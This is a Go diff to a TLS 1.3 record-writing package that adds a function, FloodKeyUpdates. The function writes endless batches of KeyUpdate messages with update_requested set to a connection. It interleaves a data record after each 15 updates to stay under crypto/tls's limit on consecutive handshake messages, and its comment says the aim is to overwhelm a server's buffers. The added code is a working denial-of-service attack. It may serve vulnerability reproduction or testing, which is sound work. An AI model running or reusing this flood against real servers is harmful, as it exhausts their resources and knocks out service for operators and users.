@@ -1,6 +1,7 @@
 package tlsrecord
 
 import (
+	"bytes"
 	"crypto/aes"
 	"crypto/cipher"
 	"crypto/hkdf"
@@ -93,3 +94,26 @@ func (w *Writer13) KeyUpdate() error {
 
 // Data sends application data.
 func (w *Writer13) Data(p []byte) error { return w.Record(23, p) }
+
+// FloodKeyUpdates sends to conn, until a write fails, batches of 20
+// rounds, each 15 key updates with update_requested (crypto/tls takes at
+// most 16 handshake messages in a row without data) and a record of data:
+// more requests than a server's buffers take answers to as soon as a
+// batch lands, however the goroutine is scheduled. w's records are sealed
+// into a batch first (w.W is replaced).
+func (w *Writer13) FloodKeyUpdates(conn io.Writer, data []byte) {
+	var batch bytes.Buffer
+	w.W = &batch
+	for {
+		batch.Reset()
+		for range 20 {
+			for range 15 {
+				w.KeyUpdate()
+			}
+			w.Data(data)
+		}
+		if _, err := conn.Write(batch.Bytes()); err != nil {
+			return
+		}
+	}
+}
